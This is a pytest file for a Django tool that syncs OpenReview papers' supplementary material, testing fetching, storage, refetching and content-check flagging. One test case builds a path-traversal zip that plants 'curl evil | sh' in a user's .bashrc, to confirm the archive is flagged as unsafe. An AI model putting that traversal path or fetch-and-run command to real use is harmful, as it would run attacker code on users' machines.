"""Supplementary material of synced papers (content.supplementary_material, a PDF or a zip): fetched with
the PDFs through the gateway, checked by content, stored under a random name, fetched again only when
OpenReview's reference changed, flagged (not dropped) when the check fails, retried after a failed fetch."""

import base64
import io
import zipfile
from pathlib import Path

import pikepdf
import pytest

from sllm.openreview.models import SubmissionRecord
from sllm.submissions.models import PaperFile
from tests.pdfs import simple_paper_bytes

from .conftest import control, small_venue, sync
from .test_pdfs import MAIN_PDF, with_author

pytestmark = pytest.mark.django_db


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


CODE_ZIP = zip_bytes({"code/prune.py": b"print('sparse')\n", "README.md": b"# How to run\n"})
APPENDIX_PDF = with_author(simple_paper_bytes(body_pages=2, title="Appendix"), "Ada Lovelace")


@pytest.fixture
def venue():
    venue = small_venue()
    venue.attach(1, MAIN_PDF)
    venue.attach(1, CODE_ZIP, field="supplementary_material")
    venue.attach(2, APPENDIX_PDF, field="supplementary_material")
    venue.attach(3, CODE_ZIP, field="supplementary_material")  # withdrawn: never fetched
    return venue


@pytest.fixture(autouse=True)
def _fetch_files(standin, settings):
    settings.OPENREVIEW_FETCH_PDFS = True


def supplementaries() -> list[tuple]:
    return sorted(
        (f.paper.number, Path(f.file.name).suffix, f.pages, f.page_limit, f.refusal)
        for f in PaperFile.objects.filter(kind="supplementary").select_related("paper")
    )


def supplementary_requests(standin) -> list[str]:
    """The papers whose supplementary material the sync asked for (the note ids, in order)."""
    found = []
    for request in control(standin, "requests")["requests"]:
        query = dict(part.split("=", 1) for part in request["query"].split("&") if "=" in part)
        if request["path"] == "/attachment" and query.get("name") == "supplementary_material":
            found.append(query["id"])
    return found


def refs() -> list[tuple]:
    return list(SubmissionRecord.objects.order_by("paper__number").values_list("paper__number", "supplementary_ref"))


def point(standin, venue, number: int, path: str, data: bytes | None = None) -> None:
    """Gives paper `number` a new supplementary reference, holding `data` (None: a file the stand-in lacks)."""
    if data is not None:
        control(standin, "attachments", {"path": path, "base64": base64.b64encode(data).decode()})
    note = venue.notes[venue.submissions[number]]
    content = {**note["content"], "supplementary_material": {"value": path}}
    control(standin, "seed", {"notes": [{**note, "content": content}]})


def test_the_sync_fetches_each_active_papers_supplementary_material_once(standin, venue):
    control(standin, "requests", {})

    run = sync()

    assert (run.status, run.counts["supplementary"]) == ("succeeded", {"created": 2, "updated": 0, "deleted": 0})
    assert run.counts["pdfs"] == {"created": 1, "updated": 0, "deleted": 0}
    assert supplementary_requests(standin) == [venue.submissions[1], venue.submissions[2]]
    assert supplementaries() == [(1, ".zip", 0, None, ""), (2, ".pdf", 3, None, "")]
    code = PaperFile.objects.get(paper__number=1, kind="supplementary")
    assert Path(code.file.name).parent.as_posix() == "papers/supplementary"
    assert len(Path(code.file.name).stem) == 32  # a random name, nothing of the paper or its authors
    with code.file.open("rb") as handle:
        assert handle.read() == CODE_ZIP
    appendix = PaperFile.objects.get(paper__number=2, kind="supplementary")
    with pikepdf.open(appendix.file.path) as pdf:
        assert "/Author" not in pdf.docinfo  # a PDF loses who wrote it, as a submission does
    assert [ref.split("/")[1] for _, ref in refs()[:2]] == ["attachment", "attachment"]
    assert refs()[2] == (3, "")

    control(standin, "requests", {})
    again = sync()

    assert (supplementary_requests(standin), again.rows_written, "supplementary" in again.counts) == ([], 0, False)


def test_supplementary_material_changed_on_openreview_is_fetched_again_alone(standin, venue):
    sync()
    before = PaperFile.objects.get(paper__number=1, kind="supplementary")
    point(standin, venue, 1, "/attachment/revised.zip", zip_bytes({"code/prune_v2.py": b"print('sparser')\n"}))
    control(standin, "requests", {})

    run = sync()

    assert (run.counts["supplementary"], "pdfs" in run.counts) == ({"created": 0, "updated": 1, "deleted": 0}, False)
    assert supplementary_requests(standin) == [venue.submissions[1]]
    after = PaperFile.objects.get(paper__number=1, kind="supplementary")
    assert (after.pk, after.sha256 != before.sha256, after.file.name != before.file.name) == (before.pk, True, True)
    assert refs()[0] == (1, "/attachment/revised.zip")
    assert SubmissionRecord.objects.get(paper__number=1).pdf_ref.startswith("/pdf/")


@pytest.mark.parametrize(
    ("data", "suffix", "refusal"),
    [
        (
            zip_bytes({"../../home/chair/.bashrc": b"curl evil | sh\n"}),
            ".zip",
            "unsafe_zip: ../../home/chair/.bashrc points outside the zip's folder.",
        ),
        (b"PK\x03\x04 cut short", ".zip", "invalid_zip: The zip cannot be read (File is not a zip file)."),
        (b"%PDF-1.7 broken", ".pdf", "invalid_pdf: The file is truncated (no end-of-file marker)."),
    ],
    ids=["climbing-zip", "broken-zip", "broken-pdf"],
)
def test_supplementary_material_that_fails_the_content_check_is_stored_and_flagged(
    standin, venue, data, suffix, refusal
):
    point(standin, venue, 1, f"/attachment/bad{suffix}", data)

    run = sync()

    assert run.warnings[-1] == (
        f"Paper 1: the supplementary material on OpenReview fails the content check ({refusal}); "
        "stored and flagged for the organizers."
    )
    assert supplementaries()[0] == (1, suffix, 0, None, refusal)
    with PaperFile.objects.get(paper__number=1, kind="supplementary").file.open("rb") as handle:
        assert handle.read() == data
    assert refs()[0] == (1, f"/attachment/bad{suffix}")


def test_supplementary_material_that_cannot_be_fetched_is_a_warning_and_is_retried(standin, venue):
    point(standin, venue, 1, "/attachment/late.zip")

    run = sync()

    assert run.status == "succeeded"
    assert run.warnings[-1] == (
        f"Paper 1: its supplementary material could not be fetched from OpenReview (Reading the "
        f"supplementary_material of {venue.submissions[1]}: OpenReview answered 404 NotFoundError: The attachment "
        f"supplementary_material of {venue.submissions[1]} was not found); the next sync tries again."
    )
    assert (supplementaries(), refs()[0]) == ([(2, ".pdf", 3, None, "")], (1, ""))

    control(standin, "attachments", {"path": "/attachment/late.zip", "base64": base64.b64encode(CODE_ZIP).decode()})
    again = sync()

    assert again.counts["supplementary"] == {"created": 1, "updated": 0, "deleted": 0}
    assert (supplementaries()[0], refs()[0]) == ((1, ".zip", 0, None, ""), (1, "/attachment/late.zip"))
